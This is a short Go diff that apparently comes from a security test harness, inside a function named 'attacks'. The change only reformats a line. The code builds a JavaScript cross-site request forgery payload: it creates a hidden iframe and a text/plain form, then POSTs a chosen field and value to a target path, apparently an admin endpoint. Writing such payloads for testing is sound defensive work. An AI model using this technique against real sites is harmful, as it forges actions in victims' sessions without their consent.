@@ -56,7 +56,8 @@ func attacks(target, admin string) map[string]string {
 	}
 	form := func(path, name, value string) string {
 		return fmt.Sprintf(`new Promise((done) => { const f = document.createElement("form"), i = document.createElement("input"),
-			w = document.createElement("iframe"); w.name = "w"; w.onload = () => w.dataset.there ? done("sent") : (w.dataset.there = "1", f.submit());
+			w = document.createElement("iframe"); w.name = "w";
+			w.onload = () => w.dataset.there ? done("sent") : (w.dataset.there = "1", f.submit());
 			f.target = "w"; f.method = "POST"; f.enctype = "text/plain"; f.action = %q;
 			i.name = %q; i.value = %q; f.append(i); document.body.append(f, w); })`, target+path, name, value)
 	}
